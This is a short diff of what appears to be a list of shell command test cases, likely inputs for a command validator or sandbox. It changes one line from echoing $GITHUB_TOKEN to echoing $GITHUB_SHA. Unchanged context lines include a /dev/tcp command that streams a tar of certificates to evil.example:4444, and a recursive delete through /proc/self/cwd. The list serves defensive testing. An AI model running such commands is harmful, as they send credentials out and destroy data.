@@ -143,7 +143,7 @@ exec 3>/dev/tcp/evil.example/4444; tar -cf /dev/fd/3 certs
 exec 3>out.log; echo x > /dev/fd/3
 exec 3>out.log; tar -cf /dev/fd/3 src
 rm -rf /proc/self/cwd/dist
-echo $GITHUB_TOKEN > /proc/self/fd/1
+echo $GITHUB_SHA > /proc/self/fd/1
 find . -name '*.log' -o -name '*.tmp' | xargs rm -f
 find . -path ./node_modules -prune -o -name '*.js' -print
 find . -type f \( -name '*.o' -or -name '*.a' \) -delete
